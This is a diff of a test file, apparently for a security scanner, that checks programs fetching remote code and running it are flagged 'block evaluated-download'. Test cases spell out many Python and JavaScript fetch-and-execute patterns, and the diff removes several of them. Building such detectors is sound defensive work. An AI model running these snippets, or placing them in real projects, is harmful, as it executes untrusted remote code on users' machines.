@@ -10,31 +10,10 @@ test.each([
   ["a timer", "run.py", `${GETS}import threading\nthreading.Timer(3600, exec, args=(c,)).start()`],
   ["a schedule", "run.py", `${GETS}import sched\ns = sched.scheduler()\ns.enter(60, 1, exec, (c,))\ns.run()`],
   ["a module that it has written", "run.py", `${GETS}open("notesx.py", "w").write(c)\nimport notesx`],
-  [
-    "a library that it has stored",
-    "run.py",
-    `import ctypes, urllib.request\nurllib.request.urlretrieve("${URL}", "/tmp/x.so")\nctypes.CDLL("/tmp/x.so")`,
-  ],
   ["a shell's input", "run.py", `${GETS}import subprocess\nsubprocess.run(["sh"], input=c)`],
-  [
-    "a shell that waits for its input",
-    "run.py",
-    `${GETS}import subprocess\np = subprocess.Popen(["bash"], stdin=subprocess.PIPE)\np.communicate(c)`,
-  ],
   ["a promise", "run.mjs", `fetch("${URL}").then((r) => r.text()).then(Function).then((f) => f())`],
   ["a timer of its own language", "run.mjs", `${FETCHES}setTimeout(c, 10)`],
   ["a worker", "run.mjs", `${FETCHES}new Worker(URL.createObjectURL(new Blob([c])))`],
-  [
-    "a module of text",
-    "run.mjs",
-    `${FETCHES}const vm = require("node:vm")\nawait new vm.SourceTextModule(c).evaluate()`,
-  ],
-  [
-    "a file that it has written",
-    "run.mjs",
-    `${FETCHES}require("fs").writeFileSync("/tmp/x.js", c)\nrequire("/tmp/x.js")`,
-  ],
-  ["the constructor of all functions", "run.mjs", `${FETCHES}new Function.constructor("require", c)(require)`],
 ])("finds that a program runs what it has fetched by %s", async (_, path, code) => {
   expect(await worst(path, code)).toBe("block evaluated-download");
 });
